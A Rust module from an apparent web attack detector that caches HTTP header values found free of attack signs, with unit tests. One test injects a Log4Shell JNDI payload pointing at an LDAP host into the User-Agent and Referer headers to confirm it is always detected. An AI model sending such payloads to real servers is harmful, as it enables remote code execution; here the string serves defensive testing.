//! Remembers headers in which nothing was found.
//!
//! Clients repeat themselves: a browser sends the same user agent with each request, a scanner for 14,000 requests. Whether a header has
//! a sign of an attack follows from its text alone, so one that had none has none the next time either. What had a sign is looked
//! at again each time. The memory belongs to a thread, is bounded, and compares whole texts: no two headers are taken for one.

use std::cell::RefCell;
use std::collections::hash_map::DefaultHasher;
use std::hash::{BuildHasher as _, BuildHasherDefault};

use super::Field;

/// Headers remembered per thread. With the longest that is 128 kB.
const HEADERS_MAX: usize = 256;

/// The longest header that is remembered, in bytes. User agents of browsers have 150.
const HEADER_BYTES_MAX: usize = 512;

thread_local! {
    static QUIET: RefCell<Quiet> = RefCell::new(Quiet::new());
}

/// Tells whether it is known that nothing is to be found in this header.
pub(super) fn knows(field: Field, text: &str) -> bool {
    is_short(text) && QUIET.with_borrow(|quiet| quiet.knows(field, text))
}

/// Takes note that nothing was found in this header.
pub(super) fn note(field: Field, text: &str) {
    if is_short(text) {
        QUIET.with_borrow_mut(|quiet| quiet.note(field, text));
    }
}

fn is_short(text: &str) -> bool {
    (1..=HEADER_BYTES_MAX).contains(&text.len())
}

struct Quiet {
    slots: Vec<Slot>,
}

#[derive(Clone, Default)]
struct Slot {
    /// The hash of what came last. A header gets in when it comes the second time: most that come once never come again.
    last: u64,
    held: Option<(Field, Box<str>)>,
}

impl Quiet {
    fn new() -> Self {
        Self { slots: vec![Slot::default(); HEADERS_MAX] }
    }

    /// Gives a hash, and the slot that it leads to. Whoever makes headers meet in a slot makes them forgotten, and no more.
    fn place(field: Field, text: &str) -> (u64, usize) {
        let hash = BuildHasherDefault::<DefaultHasher>::default().hash_one((field, text));
        (hash, usize::from(hash.to_le_bytes()[0]) % HEADERS_MAX)
    }

    fn knows(&self, field: Field, text: &str) -> bool {
        let (_, slot) = Self::place(field, text);
        let held = self.slots.get(slot).and_then(|slot| slot.held.as_ref());
        held.is_some_and(|(of, known)| *of == field && **known == *text)
    }

    fn note(&mut self, field: Field, text: &str) {
        let (hash, slot) = Self::place(field, text);
        let Some(slot) = self.slots.get_mut(slot) else { return };
        if slot.last == hash {
            slot.held = Some((field, text.into()));
        }
        slot.last = hash;
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Request, WebClass, classify};
    use super::*;

    #[test]
    fn a_header_is_known_from_the_second_time_on_and_only_where_it_stood() {
        let mut quiet = Quiet::new();
        quiet.note(Field::UserAgent, "curl/8.0");
        assert!(!quiet.knows(Field::UserAgent, "curl/8.0"));
        quiet.note(Field::UserAgent, "curl/8.0");
        assert!(quiet.knows(Field::UserAgent, "curl/8.0"));
        assert!(!quiet.knows(Field::Referer, "curl/8.0"));
        assert!(!quiet.knows(Field::UserAgent, "curl/8.1"));
    }

    #[test]
    fn what_has_a_sign_is_found_each_time() {
        let attack = "${jndi:ldap://192.0.2.7/a}";
        for (user_agent, referer, field) in
            [(attack, "-", Field::UserAgent), ("curl/8.0", attack, Field::Referer)]
        {
            let request = Request { target: "/", user_agent, referer, ..Request::default() };
            for _ in 0..4 {
                let found = classify(&request);
                assert_eq!((found[0].class, found[0].field), (WebClass::Log4shell, field));
            }
        }
        let scanner = Request { target: "/", user_agent: "sqlmap/1.8", ..Request::default() };
        for _ in 0..4 {
            assert_eq!(classify(&scanner)[0].class, WebClass::Scanner);
        }
    }
}
